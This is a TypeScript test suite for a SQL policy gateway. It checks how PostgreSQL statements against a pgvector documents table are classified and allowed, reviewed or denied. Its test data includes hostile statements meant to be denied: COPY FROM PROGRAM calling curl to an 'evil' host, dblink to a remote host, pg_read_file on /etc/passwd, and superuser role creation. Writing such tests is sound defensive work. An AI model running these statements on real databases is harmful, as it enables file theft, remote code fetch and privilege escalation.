import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { before, describe, test } from 'node:test';
import { promisify } from 'node:util';
import { loadConfigFile } from '../../../src/config/load.js';
import type { Verdict } from '../../../src/core/decision.js';
import type { OperationKind, RiskTag } from '../../../src/core/operation.js';
import { PolicyEngine } from '../../../src/policy/engine.js';
import { classifySql, loadSqlClassifier, toOperation } from '../../../src/protocols/postgres/sql/classify.js';

const run = promisify(execFile);
const CONFIG = new URL('../../../examples/quickstart/gatehouse.yaml', import.meta.url).pathname;
const CLI = new URL('../../../bin/gatehouse.js', import.meta.url).pathname;

/** sql, kind, tags (sorted), verdict for rag-readers, verdict for indexers. */
type Row = readonly [string, OperationKind, readonly RiskTag[], Verdict, Verdict];

/**
 * The quickstart `vectors` policy as the issue states it: rag-readers only read; indexers read and write, with DDL,
 * DELETE/UPDATE without WHERE, TRUNCATE and DROP sent to review; admin denied; dangerous tags denied by default.
 */
const ROWS: readonly Row[] = [
  // Reads, including text that only looks dangerous.
  ['SELECT 1', 'read', [], 'allow', 'allow'],
  ['select id, title from documents where tenant_id = $1', 'read', [], 'allow', 'allow'],
  ['SeLeCt CoUnT(*) FrOm DOCUMENTS', 'read', [], 'allow', 'allow'],
  ["SELECT id FROM documents ORDER BY embedding <-> '[1,0,0]' LIMIT 3", 'read', [], 'allow', 'allow'],
  [
    'SELECT id, 1 - (embedding <=> $1) AS score FROM documents ORDER BY embedding <=> $1 LIMIT 5',
    'read',
    [],
    'allow',
    'allow',
  ],
  ["SELECT 'DELETE FROM documents'", 'read', [], 'allow', 'allow'],
  ['SELECT $$DROP TABLE documents$$', 'read', [], 'allow', 'allow'],
  ['SELECT $x$ ; TRUNCATE documents; $x$ AS t', 'read', [], 'allow', 'allow'],
  ['SELECT "delete", "drop" FROM (SELECT 1 AS "delete", 2 AS "drop") s', 'read', [], 'allow', 'allow'],
  ['/* DELETE FROM documents; */ SELECT 1 -- ; DROP TABLE documents', 'read', [], 'allow', 'allow'],
  ['TABLE documents', 'read', [], 'allow', 'allow'],
  ["VALUES (1, 'a'), (2, 'b')", 'read', [], 'allow', 'allow'],
  ['WITH near AS (SELECT id FROM documents LIMIT 2) SELECT * FROM near', 'read', [], 'allow', 'allow'],
  ['SELECT count(*) FROM documents d JOIN documents e ON d.tenant_id = e.tenant_id', 'read', [], 'allow', 'allow'],
  ['EXPLAIN SELECT * FROM documents', 'read', [], 'allow', 'allow'],
  // Row locks need a writable transaction.
  ['SELECT * FROM documents FOR UPDATE', 'write', ['select-for-update'], 'deny', 'allow'],
  // Session and transaction control: harmless, allowed to whoever may read.
  ['BEGIN', 'session', [], 'allow', 'allow'],
  ['COMMIT', 'session', [], 'allow', 'allow'],
  ['ROLLBACK', 'session', [], 'allow', 'allow'],
  ['START TRANSACTION READ ONLY', 'session', [], 'allow', 'allow'],
  ['SAVEPOINT s1', 'session', [], 'allow', 'allow'],
  ['SHOW search_path', 'session', [], 'allow', 'allow'],
  ['SET statement_timeout = 5000', 'session', [], 'allow', 'allow'],
  ["SET application_name = 'rag'", 'session', [], 'allow', 'allow'],
  // RESET ALL would also revert default_transaction_read_only: not harmless session control.
  ['RESET ALL', 'write', [], 'deny', 'allow'],
  // Writes.
  ["INSERT INTO documents VALUES (7, 'acme', 't', 'b', '[1,0,0]')", 'write', [], 'deny', 'allow'],
  [
    'insert into documents (id, tenant_id, title, body, embedding) select 8, tenant_id, title, body, embedding from documents where id = 1',
    'write',
    [],
    'deny',
    'allow',
  ],
  ['UPDATE documents SET title = $1 WHERE id = $2', 'write', [], 'deny', 'allow'],
  ["UPDATE documents SET embedding = '[0,0,1]' WHERE tenant_id = 'acme'", 'write', [], 'deny', 'allow'],
  ['DELETE FROM documents WHERE id = 3', 'write', [], 'deny', 'allow'],
  // A WHERE clause that cannot narrow the rows is no bound (issue 30): held like a DELETE without WHERE.
  ['delete from documents where true', 'write', ['delete-without-where'], 'deny', 'review'],
  [
    "INSERT INTO documents VALUES (9, 'a', 't', 'b', '[1,1,1]') ON CONFLICT (id) DO UPDATE SET title = excluded.title",
    'write',
    [],
    'deny',
    'allow',
  ],
  // MERGE's UPDATE is as unbounded as its join: reviewed like UPDATE without WHERE.
  [
    'MERGE INTO documents d USING (SELECT 1 AS id) s ON d.id = s.id WHEN MATCHED THEN UPDATE SET title = $1',
    'write',
    ['update-without-where', 'merge'],
    'deny',
    'review',
  ],
  ['COPY documents FROM STDIN', 'write', [], 'deny', 'allow'],
  ['COPY documents TO STDOUT', 'read', [], 'allow', 'allow'],
  [
    'WITH gone AS (DELETE FROM documents WHERE id = 1 RETURNING *) SELECT * FROM gone',
    'write',
    ['data-modifying-cte'],
    'deny',
    'allow',
  ],
  // SELECT INTO creates a table.
  ['SELECT * INTO backup FROM documents', 'ddl', ['select-into'], 'deny', 'review'],
  ['EXPLAIN ANALYZE DELETE FROM documents WHERE id = 1', 'write', [], 'deny', 'allow'],
  // DELETE and UPDATE without WHERE: indexers need review.
  ['DELETE FROM documents', 'write', ['delete-without-where'], 'deny', 'review'],
  ['delete   from "documents"', 'write', ['delete-without-where'], 'deny', 'review'],
  ['UPDATE documents SET body = $1', 'write', ['update-without-where'], 'deny', 'review'],
  ['EXPLAIN ANALYZE DELETE FROM documents', 'write', ['delete-without-where'], 'deny', 'review'],
  [
    'WITH x AS (UPDATE documents SET title = upper(title) RETURNING id) SELECT count(*) FROM x',
    'write',
    ['data-modifying-cte', 'update-without-where'],
    'deny',
    'review',
  ],
  ['SELECT 1; DELETE FROM documents', 'write', ['delete-without-where'], 'deny', 'review'],
  ["SELECT 'ok'; /* harmless */ UPDATE documents SET title = 'x'", 'write', ['update-without-where'], 'deny', 'review'],
  // DDL, TRUNCATE, DROP: review for indexers.
  ['CREATE TABLE notes (id int, embedding vector(3))', 'ddl', [], 'deny', 'review'],
  ['CREATE INDEX ON documents USING hnsw (embedding vector_l2_ops)', 'ddl', [], 'deny', 'review'],
  ['ALTER TABLE documents ADD COLUMN source text', 'ddl', [], 'deny', 'review'],
  ['CREATE VIEW acme_docs AS SELECT * FROM documents WHERE tenant_id = $$acme$$', 'ddl', [], 'deny', 'review'],
  ['DROP TABLE documents', 'ddl', ['drop'], 'deny', 'review'],
  ['drop index if exists documents_embedding_idx', 'ddl', ['drop'], 'deny', 'review'],
  ['TRUNCATE documents', 'ddl', ['truncate'], 'deny', 'review'],
  ['SELECT 1; TRUNCATE documents', 'ddl', ['truncate'], 'deny', 'review'],
  ['COMMENT ON TABLE documents IS $$DROP TABLE documents$$', 'ddl', [], 'deny', 'review'],
  // Admin and dangerous: denied to both.
  ['VACUUM documents', 'admin', [], 'deny', 'deny'],
  ['ANALYZE documents', 'admin', [], 'deny', 'deny'],
  ['CREATE EXTENSION IF NOT EXISTS dblink', 'admin', ['remote-access'], 'deny', 'deny'],
  ['CREATE ROLE intruder SUPERUSER', 'admin', ['privilege-change'], 'deny', 'deny'],
  ['GRANT ALL ON documents TO PUBLIC', 'admin', ['privilege-change'], 'deny', 'deny'],
  ['SET ROLE postgres', 'admin', ['role-change'], 'deny', 'deny'],
  ['SET SESSION AUTHORIZATION postgres', 'admin', ['role-change'], 'deny', 'deny'],
  ["SELECT set_config('role', 'postgres', false)", 'admin', ['role-change'], 'deny', 'deny'],
  ["SELECT pg_read_file('/etc/passwd')", 'admin', ['file-access'], 'deny', 'deny'],
  ["COPY documents TO '/tmp/out.csv'", 'admin', ['copy-server-file'], 'deny', 'deny'],
  ["COPY documents FROM PROGRAM 'curl http://evil'", 'admin', ['copy-program'], 'deny', 'deny'],
  ["DO $$BEGIN EXECUTE 'DROP TABLE documents'; END$$", 'admin', ['dynamic-sql'], 'deny', 'deny'],
  ["SELECT dblink('host=evil', 'SELECT 1')", 'admin', ['remote-access'], 'deny', 'deny'],
  ['SELECT pg_terminate_backend(1)', 'admin', ['superuser-function'], 'deny', 'deny'],
  // PREPARE / EXECUTE: classified by what they run.
  ['PREPARE q AS SELECT * FROM documents WHERE id = $1', 'read', [], 'allow', 'allow'],
  ['PREPARE d AS DELETE FROM documents', 'write', ['delete-without-where'], 'deny', 'review'],
  // What the parser rejects is denied.
  ['SELEC * FROM documents', 'unknown', [], 'deny', 'deny'],
  ["SELECT 'unterminated", 'unknown', [], 'deny', 'deny'],
];

describe('quickstart vectors policy (examples/quickstart/gatehouse.yaml)', () => {
  const { config } = loadConfigFile(CONFIG, { ...process.env });
  const engine = new PolicyEngine(config.resources);

  before(() => loadSqlClassifier());

  test('the table has at least 60 statements', () => {
    assert.ok(ROWS.length >= 60, `${ROWS.length} rows`);
    assert.equal(new Set(ROWS.map((row) => row[0])).size, ROWS.length, 'duplicate statements');
  });

  for (const [sql, kind, tags, readers, indexers] of ROWS) {
    test(`${sql}  =>  ${kind} [${tags.join(',')}]; rag-readers ${readers}, indexers ${indexers}`, () => {
      const operation = toOperation('vectors', classifySql(sql), sql);
      assert.equal(operation.kind, kind, 'kind');
      assert.deepEqual([...operation.tags].sort(), [...tags].sort(), 'tags');
      const decide = (group: string) => engine.decide(operation, { identity: { groups: [group] } });
      assert.equal(decide('rag-readers').verdict, readers, 'rag-readers');
      assert.equal(decide('indexers').verdict, indexers, 'indexers');
      // Nobody outside the two groups gets anything; both groups together get no more than indexers.
      assert.equal(decide('someone-else').verdict, 'deny', 'other group');
      assert.equal(
        engine.decide(operation, { identity: { groups: ['rag-readers', 'indexers'] } }).verdict,
        indexers,
        'both groups',
      );
    });
  }
});

/** The same decisions from the real CLI, as a user would ask for them. */
describe('gatehouse policy explain --sql on the quickstart config', () => {
  const explain = async (groups: string, sql: string) => {
    // explain exits 3 on deny and 4 on review (so it can gate CI); its JSON is on stdout either way.
    const { stdout } = await run(process.execPath, [
      CLI,
      'policy',
      'explain',
      '-c',
      CONFIG,
      '--resource',
      'vectors',
      '--groups',
      groups,
      '--sql',
      sql,
    ]).catch((error: { code?: number; stdout: string }) => {
      if (error.code === 3 || error.code === 4) return { stdout: error.stdout };
      throw error;
    });
    return JSON.parse(stdout) as {
      decision: Verdict;
      reason: string;
      rule: { id: string; selector: string };
      operation: { kind: string; tags: string[] };
    };
  };

  test('rag-readers: DELETE FROM documents is denied (no rule grants a write)', async () => {
    const out = await explain('rag-readers', 'DELETE FROM documents');
    assert.equal(out.decision, 'deny');
    assert.equal(out.reason, 'no-matching-rule');
    assert.equal(out.operation.kind, 'write');
    assert.deepEqual(out.operation.tags, ['delete-without-where']);
  });

  test('rag-readers: a pgvector nearest-neighbour query is allowed by the read rule', async () => {
    const out = await explain('rag-readers', "SELECT id FROM documents ORDER BY embedding <-> '[1,0,0]' LIMIT 3");
    assert.equal(out.decision, 'allow');
    assert.equal(out.rule.id, 'resources.vectors.policy[0]');
    assert.equal(out.rule.selector, 'allow: read');
  });

  test('indexers: DELETE without WHERE goes to review, with a WHERE it is allowed', async () => {
    const review = await explain('indexers', 'DELETE FROM documents');
    assert.equal(review.decision, 'review');
    assert.equal(review.rule.id, 'resources.vectors.policy[1]');
    assert.equal(review.rule.selector, 'review: delete-without-where');
    const allowed = await explain('indexers', 'DELETE FROM documents WHERE id = 1');
    assert.equal(allowed.decision, 'allow');
  });

  test('indexers: DROP TABLE goes to review; VACUUM is denied by the rule', async () => {
    const drop = await explain('indexers', 'DROP TABLE documents');
    assert.equal(drop.decision, 'review');
    const vacuum = await explain('indexers', 'VACUUM documents');
    assert.equal(vacuum.decision, 'deny');
    assert.equal(vacuum.reason, 'rule-denies');
    assert.equal(vacuum.rule.selector, 'deny: admin');
  });

  test('both groups: reading a server file is not a read: admin, and tagged file-access', async () => {
    const out = await explain('rag-readers,indexers', "SELECT pg_read_file('/etc/passwd')");
    assert.equal(out.decision, 'deny');
    assert.equal(out.operation.kind, 'admin');
    assert.deepEqual(out.operation.tags, ['file-access']);
    assert.equal(out.reason, 'rule-denies');
    assert.equal(out.rule.selector, 'deny: admin');
  });
});
